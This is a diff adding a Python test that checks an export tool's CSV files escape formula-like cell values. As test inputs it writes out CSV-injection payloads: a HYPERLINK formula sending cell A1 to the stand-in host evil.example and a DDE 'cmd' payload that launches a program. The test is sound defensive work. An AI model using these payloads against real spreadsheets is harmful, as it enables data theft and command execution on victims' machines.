@@ -182,3 +182,22 @@ def test_zip_entries_are_dated_from_the_package(bundle, package: ExportPackage) 
     assert stamps == {
         (local.year, local.month, local.day, local.hour, local.minute, local.second - local.second % 2)
     }
+
+
+def test_no_csv_cell_can_run_as_a_formula(package: ExportPackage) -> None:
+    """CSV injection: brief or model text that starts like a formula reaches every CSV as text."""
+    hostile = package.model_copy(deep=True)
+    execution = next(a for a in hostile.artifacts if a.type is Module.EXECUTION)
+    posts = execution.content["posts"]
+    posts[0]["text"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    posts[1]["cta"] = "+1 555 0100 — call us"
+    posts[2]["pillar"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    posts[3]["image_prompt"] = "-2+3 cups of flour"
+    posts[4]["text"] = "\t=1+1"
+    files = archive(render_zip(hostile, pdf=None, pptx=None)[0])
+    csvs = {name: rows(data) for name, data in files.items() if name.endswith(".csv")}
+    assert set(csvs) == {"calendar.csv", "posts/instagram.csv", "posts/facebook.csv", "posts/linkedin.csv"}
+    cells = [cell for parsed in csvs.values() for row in parsed for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells  # kept, shown as text
+    assert "'+1 555 0100 — call us" in cells and "'-2+3 cups of flour" in cells
